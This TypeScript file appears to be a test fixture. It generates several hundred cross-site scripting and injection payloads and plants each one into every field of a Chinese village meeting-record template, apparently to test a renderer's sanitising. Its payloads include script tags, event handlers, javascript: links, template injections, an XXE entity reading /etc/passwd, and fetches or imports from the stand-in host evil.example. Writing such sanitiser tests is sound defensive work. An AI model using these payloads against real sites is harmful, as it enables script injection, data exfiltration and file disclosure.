/** What would leave a mark if anything of it ran: the page's title, a dialog, or a request to another host. */
const deeds = ['alert(1)', 'document.title=9', "fetch('https://evil.example/')"] as const

const events = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onblur',
  'onmouseover',
  'onmouseenter',
  'onpointerover',
  'onanimationstart',
  'onanimationend',
  'ontransitionend',
  'ontoggle',
  'onbeforetoggle',
  'onscroll',
  'onscrollend',
  'onwheel',
  'onresize',
  'oninput',
  'onchange',
  'onsubmit',
  'onpageshow',
  'onhashchange',
  'onmessage',
  'oncanplay',
  'onloadstart',
  'onbegin',
  'onend',
  'onrepeat',
  'onfinish',
  'onstart',
  'onsearch',
  'oncopy',
  'onpaste',
  'onauxclick',
  'oncontextmenu',
  'onbeforeprint',
  'onunhandledrejection',
  'onbeforematch',
] as const

const tags = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe src=x',
  'marquee',
  'object data=x',
  'math',
  'x tabindex=1',
] as const

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'javascript&colon;',
  'java\u200bscript:',
  'jav&#x09;ascript:',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'data:image/svg+xml,',
  'view-source:javascript:',
  'feed:javascript:',
  'blob:',
  'file:///',
  '//evil.example/',
  'https://evil.example/',
  '\\\\evil.example\\',
] as const

const holders = [
  (url: string) => `<a href="${url}">看</a>`,
  (url: string) => `[看](${url})`,
  (url: string) => `![看](${url})`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<form action="${url}"><button>看</button></form>`,
  (url: string) => `<base href="${url}">`,
] as const

const breakouts = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'>${text}`,
  (text: string) => `</title>${text}`,
  (text: string) => `</main>${text}`,
  (text: string) => `-->${text}`,
  (text: string) => `]]>${text}`,
  (text: string) => `</textarea>${text}`,
] as const

const singles = [
  '<script src=https://evil.example/x.js></script>',
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/x>alert(1)</script>',
  '<script\u3000>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '<script type=module>import("https://evil.example/x.js")</script>',
  '<script type="application/ld+json">{}</script><script>alert(1)</script>',
  '<script>/*',
  '*/alert(1)</script>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(https://evil.example/)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=preload as=image href=https://evil.example/>',
  '<link rel=dns-prefetch href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<img srcset="https://evil.example/a 1x">',
  '<picture><source srcset=https://evil.example/></picture>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>看</text></a></svg>',
  '<svg><use href="https://evil.example/#x"/></svg>',
  '<svg><foreignObject><iframe src=//evil.example/></foreignObject></svg>',
  '<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style></mtext></svg></mglyph></math>',
  '<math href="javascript:alert(1)">看</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src=https://evil.example/x.swf>',
  '<applet code=x>',
  '<frameset onload=alert(1)>',
  '<portal src=https://evil.example/>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<button formaction=javascript:alert(1)>看</button>',
  '<input type=image src=https://evil.example/>',
  '<video poster=https://evil.example/>',
  '<track src=https://evil.example/>',
  '<div style="background:url(https://evil.example/)">',
  '<div style=width:expression(alert(1))>',
  '<xss id=x tabindex=1 onactivate=alert(1)>',
  '<a href=x ping=https://evil.example/>看</a>',
  '<area href=javascript:alert(1)>',
  '<table background=https://evil.example/>',
  '<bgsound src=https://evil.example/>',
  '{{constructor.constructor("alert(1)")()}}',
  '{process.env.HOME}',
  '${alert(1)}',
  '<%= 7*7 %>',
  '{% raw %}',
  '#{7*7}',
  '[[${7*7}]]',
  '{/* x */}',
  '{...alert(1)}',
  '<Fragment set:html="<b>" />',
  'import x from "node:fs"',
  'export const x = 1',
  '`</script><script>alert(1)</script>`',
  "';alert(1)//",
  '";alert(1)//',
  '\\";alert(1)//',
  '\u2028alert(1)',

  '<img\u0009src=x\u0009onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\u3000=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img src=x onerror=\u0061lert(1)>',
  '<a/href=javascript&colon;alert(1)>看</a>',
  '<https://evil.example/>',
  '<javascript:alert(1)>',
  '[看][1]',
  '[1]: javascript:alert(1)',
  '![看][https://evil.example/]',
  '**<b onclick=alert(1)>看</b>**',
  '~~<i>~~',
  '`<u>`',
  '<!-- --><b>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '<!ENTITY x SYSTEM "file:///etc/passwd">',
  '=HYPERLINK("https://evil.example/")',
  '@import url(https://evil.example/)',
  '\u202e<script>alert(1)</script>',
  '<ſcript>alert(1)</ſcript>',
  '<ＩＭＧ src=x onerror=alert(1)>',
  'ﹾscript﹥alert(1)',
  '&NewLine;<b>&Tab;',
  '&amp;lt;b&amp;gt;',
  '&unknown;<b>',
  '<b <b>',
  '<b',
  '</b',
  '<',
  '&',
  '"',
  "'",
  '><',
  '/>',
] as const

/** Well over three hundred attacks, of every well-known kind, each once. */
export const attacks: readonly string[] = [
  ...new Set([
    ...events.map((event, index) => `<${tags[index % tags.length]} ${event}=${deeds[index % deeds.length]}>`),
    ...tags.flatMap((tag, index) => breakouts.map((broken) => broken(`<${tag} ${events[index % 5]}=${deeds[index % deeds.length]}>`))),
    ...schemes.flatMap((scheme, index) => holders.map((held) => held(`${scheme}${deeds[index % deeds.length]}`))),
    ...singles,
  ]),
]

/** A record with one text in every field that takes a text, in a name, and in every kind of prose. */
export const planted = (text: string): string => `# 屋面 ${text}

- 编号：${text}
- 动议来源：${text}
- 金额：186000元
- 规模：${text}
- 对方：${text}
- 责任人：${text}
- 备注：${text}
- 备注${text}：甲

说明 ${text}

## 村党组织提议

- 时间：2026-03-02
- 地点：${text}
- 主持人：${text}
- 记录人：${text}
- 列席：${text}
- 应到：7人
- 实到：7人
- 表决方式：${text}
- 特殊情况：${text}
- 合并进行：${text}
- 授权依据：${text}
- 附件：${text}
- 赞成：7
- 反对：0
- 弃权：0

说明 ${text}

- 其中 ${text}

> 引 ${text}

| 甲 |
|---|
| 乙 ${text.replaceAll('|', '')} |

### 讨论 ${text}

说明 ${text}

## 合法性审查

- 时间：2026-03-06
- 审查人：${text}
- 意见：${text}
- 文号：${text}

## 决议公开

- 公开日期：2026-03-19 至 2026-04-05
- 公开地点：${text}
- 监督电话：${text}

### 异议

- 2026-03-25 书面 ${text}；2026-03-27 答复：${text}

## 实施

- 2026-04-12 签订合同：${text}
- 2026-04-13 ${text}：182000元

## 终止

- 时间：2026-09-01
- 经办人：${text}
- 原因：${text}

## ${text}

说明 ${text}
`
